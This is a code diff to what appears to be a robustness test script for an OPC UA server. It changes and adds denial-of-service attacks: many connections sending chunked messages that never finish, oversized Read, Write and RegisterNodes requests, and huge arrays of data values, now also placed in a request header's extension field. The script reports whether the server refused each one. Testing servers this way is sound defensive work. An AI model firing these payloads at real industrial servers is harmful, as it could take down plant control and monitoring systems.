@@ -105,22 +105,31 @@ def refused_with(action: Callable[[], object]) -> str:
     return "served"
 
 
-def unfinished_message(target: Target) -> str:
-    """512 MB on each of four connections, in chunks of which none is the last."""
-    clients = [target.client() for _ in range(4)]
-    sent = 0
-    for _ in range(512 * 1024 * 1024 // CHUNK):
-        for client in list(clients):
-            try:
-                client.send_chunk(b"\0" * CHUNK, final=False)
-                sent += CHUNK
-            except Refused:
-                clients.remove(client)
-        if not clients:
-            break
-    for client in clients:
-        client.close()
-    return f"connections closed after {sent / 2**20 / 4:.0f} MB each"
+def unfinished_messages(connections: int, size: int) -> Callable[[Target], str]:
+    """So many bytes of a Read on each connection, in chunks of which none is the last."""
+
+    def attack(target: Target) -> str:
+        clients = [target.client() for _ in range(connections)]
+        open_ones = set(clients)
+        start = struct.pack("<BBH", 1, 0, 631).ljust(CHUNK, b"\0")
+
+        def send_one_each() -> None:
+            for client in list(open_ones):
+                try:
+                    client.send_chunk(start, final=False)
+                except Refused:
+                    open_ones.remove(client)
+
+        for _ in range(size // CHUNK):
+            if open_ones:
+                send_one_each()
+        time.sleep(1)  # what the kernel has taken is read, and the ends of connections arrive
+        send_one_each()
+        for client in clients:
+            client.close()
+        return f"{connections - len(open_ones)} of {connections} connections closed"
+
+    return attack
 
 
 def large_request(type_id: int, element: bytes, size: int = 16 << 20) -> Callable[[Target], str]:
@@ -146,6 +155,23 @@ def values_in_values(size: int) -> Callable[[Target], str]:
         body = struct.pack("<BBH", 1, 0, 673) + client.header()
         body += struct.pack("<i", 1) + struct.pack("<BBHIi", 1, 0, 2267, 13, -1)
         body += struct.pack("<BBi", 1, 0x80 | 23, size) + b"\0" * size
+        result = refused_with(lambda: (client.send_body(body), client.answer()))
+        client.close()
+        return result
+
+    return attack
+
+
+def values_in_header(size: int) -> Callable[[Target], str]:
+    """The same in a part of the request's header that the standard leaves to extensions."""
+
+    def attack(target: Target) -> str:
+        client = target.client()
+        values = struct.pack("<i", size) + b"\0" * size
+        extension = struct.pack("<BBHBi", 1, 0, 658, 1, len(values)) + values  # HistoryData
+        no_extension = b"\0\0\0"
+        body = struct.pack("<BBH", 1, 0, 631) + client.header().removesuffix(no_extension)
+        body += extension + struct.pack("<dii", 0, 0, 0)
         result = refused_with(lambda: (client.send_body(body), client.answer()))
         client.close()
         return result
@@ -332,13 +358,15 @@ def no_descriptors(target: Target) -> str:
 
 
 ATTACKS: dict[str, Callable[[Target], str]] = {
-    "512 MB on 4 connections, never finished": unfinished_message,
+    "512 MB on 4 connections, never finished": unfinished_messages(4, 512 << 20),
+    "1.9 MB on 50 connections, never finished": unfinished_messages(50, 1_900_000),
     "one Write of 16 MB": large_request(673, b"\0" * 16),
     "one Read of 16 MB": large_request(631, b"\0\0" + b"\0" * 14),
     "one RegisterNodes of 16 MB": large_request(560, b"\0\0"),
     "one array of 16 M data values": values_in_values(16 << 20),
     "one array of 1.9 M data values": values_in_values(1_900_000),
     "one array of 0.5 M data values": values_in_values(500_000),
+    "1.9 M data values in a request's header": values_in_header(1_900_000),
     "Browse of one folder 2000 times": browse_often,
     "60 session names of 100 kB": long_session_names,
     "99 sessions opened and left": sessions_left,
